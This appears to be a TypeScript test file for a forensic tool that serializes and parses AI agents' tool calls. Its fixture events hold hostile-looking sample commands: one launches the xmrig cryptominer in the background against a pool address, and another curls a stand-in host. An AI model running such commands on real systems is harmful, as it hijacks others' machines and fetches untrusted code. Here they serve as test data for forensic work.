// A tool call written to the calls file (its input as a number) and read back must be the call
// toToolCall made: the same fields in the same order (reports print refs as they are), with the
// strings a window holds many copies of shared.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CommandFacts, toToolCall } from '../../src/attribution/attribute.js';
import { CallFile, callHeadAt, commandOfCall, parseCall, serializeCall, type CallReading } from '../../src/attribution/call-window.js';
import { Inventory } from '../../src/attribution/inventory.js';
import { IntervalUnion } from '../../src/attribution/stats.js';
import type { ForensicEvent, Ref } from '../../src/model/event.js';
import { SharedStrings } from '../../src/model/shared-strings.js';

const paths = ['/evidence/agent/trace.jsonl', '/evidence/agent/openhands "run" ü.json'];

function event(ref: Ref, extra: Partial<ForensicEvent> = {}): ForensicEvent {
  return {
    kind: 'tool-call', source: 'agent', format: 'agent-events', timeMs: 1_772_445_600_000, timeRaw: '2026-03-02T10:00:00Z', ref,
    session: 'ep-0416', callId: 'a1', tool: 'bash', command: 'nohup ./xmrig -o stratum+tcp://198.51.100.20:3333 &', ...extra,
  };
}

function roundTrip(e: ForensicEvent, reading: CallReading, input: number) {
  const call = toToolCall(e, new Inventory(), 0, reading.commands);
  const back = parseCall(serializeCall(call, input), call.startMs, call.endMs, 1_772_445_700_000, reading);
  return { call: { ...call, nextStartMs: 1_772_445_700_000 }, back };
}

describe('a tool call in the calls file', () => {
  const reading = (): CallReading => ({ paths, commands: new CommandFacts(), strings: new SharedStrings() });

  it('comes back with its ref as the parser made it: a line, an index into a document, or both', () => {
    const r = reading();
    for (const [ref, input] of [[{ path: paths[0]!, line: 12 }, 0], [{ path: paths[1]!, index: 3 }, 1], [{ path: paths[1]!, line: 1, index: 0 }, 1]] as const) {
      const { call, back } = roundTrip(event(ref, { endMs: 1_772_445_601_500, host: 'gpu-node-07', sandbox: 'sb-04' }), r, input);
      expect(back).toEqual(call);
      expect(JSON.stringify(back)).toBe(JSON.stringify(call));
      expect(Object.keys(back)).toEqual(Object.keys(call));
    }
  });

  it('keeps absent fields absent and an open end open', () => {
    const { call, back } = roundTrip(event({ path: paths[0]!, line: 2 }, { session: undefined, callId: undefined, tool: undefined, command: undefined }), reading(), 0);
    expect(back).toEqual(call);
    expect(back.openEnded).toBe(true);
    expect(back.command).toBeUndefined();
    expect(back.session).toBe('');
  });

  it('shares its session, host and command with the calls read before it, and its path with the table', () => {
    const r = reading();
    const a = roundTrip(event({ path: paths[1]!, index: 1 }, { host: 'gpu-node-07' }), r, 1).back;
    const b = roundTrip(event({ path: paths[1]!, index: 2 }, { host: 'gpu-node-07', callId: 'a2' }), r, 1).back;
    expect(a.ref.path).toBe(paths[1]);
    // strings have no identity to compare: that the table holds them is what sharing means here
    expect(r.strings.knows(a.session) && r.strings.knows(a.host!) && r.strings.knows(a.command!)).toBe(true);
    expect(b.facts).toBe(a.facts);
    expect([b.callId, b.ref.index]).toEqual(['a2', 2]);
  });
});

describe('commandOfCall() and callHeadAt()', () => {
  // quotes, backslashes (an odd and an even number before a quote), commas, brackets, controls, surrogates
  const text = fc.option(fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom('a\\', 'a\\\\"', '",', '[x]', '\\"', 'null', '')), { nil: undefined });

  it('read the command and the head of any call as JSON.parse reads them, without parsing the rest', () => {
    fc.assert(fc.property(text, text, text, fc.option(fc.nat(), { nil: undefined }), fc.option(fc.nat(), { nil: undefined }), fc.boolean(), text, (callId, tool, command, line, index, closed, session) => {
      const ended = closed ? { endMs: 1_772_445_601_500 } : {};
      const { call } = roundTrip(event({ path: paths[0]!, ...(line !== undefined ? { line } : {}), ...(index !== undefined ? { index } : {}) }, { callId, tool, command, session, ...ended }), reading(), 1);
      const tuple = serializeCall(call, 1);
      const parsed = JSON.parse(tuple) as unknown[];
      expect(commandOfCall(tuple)).toBe(parsed[7]);
      // and the head the merge reads, here after a prefix as in a run line
      const head = callHeadAt(`12\t34\tdigest\t${tuple}`, `12\t34\tdigest\t`.length);
      expect([head.input, head.line ?? null, head.index ?? null, head.openEnded, JSON.parse(head.session)]).toEqual(parsed.slice(0, 5));
    }), { numRuns: 2000 });
  });

  const reading = (): CallReading => ({ paths, commands: new CommandFacts(), strings: new SharedStrings() });
});

describe('a call a window holds (CallFile.callOf)', () => {
  const reading = (): CallReading => ({ paths, commands: new CommandFacts(), strings: new SharedStrings() });

  it('reads as the parsed call in every field, before and after its line is parsed', () => {
    const r = reading();
    const file = new CallFile('/nonexistent/calls.jsonl', 0, [], r, new IntervalUnion());
    const variants: Partial<ForensicEvent>[] = [
      { endMs: 1_772_445_601_500, host: 'gpu-node-07', sandbox: 'sb-04', container: 'c-1' },
      { session: undefined, callId: undefined, tool: undefined, command: undefined },
      { command: 'echo "a\\tb" \'ü\' && curl http://203.0.113.5/x', callId: 'id "quoted"' },
    ];
    for (const [k, extra] of variants.entries()) {
      const call = toToolCall(event({ path: paths[1]!, line: k + 1, index: k }, extra), new Inventory(), 0, r.commands);
      for (const next of [undefined, call.startMs + 20_000]) {
        const line = `${call.startMs}\t${call.endMs}\t${next ?? ''}\t${serializeCall(call, 1)}`;
        const expected = parseCall(serializeCall(call, 1), call.startMs, call.endMs, next, r);
        const held = file.callOf(line);
        // what an index reads first, without parsing the rest
        expect([held.startMs, held.endMs, held.text, held.background, held.facts]).toEqual([expected.startMs, expected.endMs, expected.text, expected.background, expected.facts]);
        for (const key of Object.keys(expected) as (keyof typeof expected)[]) expect(held[key], key).toEqual(expected[key]);
        expect(held.nextStartMs).toBe(next);
      }
    }
  });
});
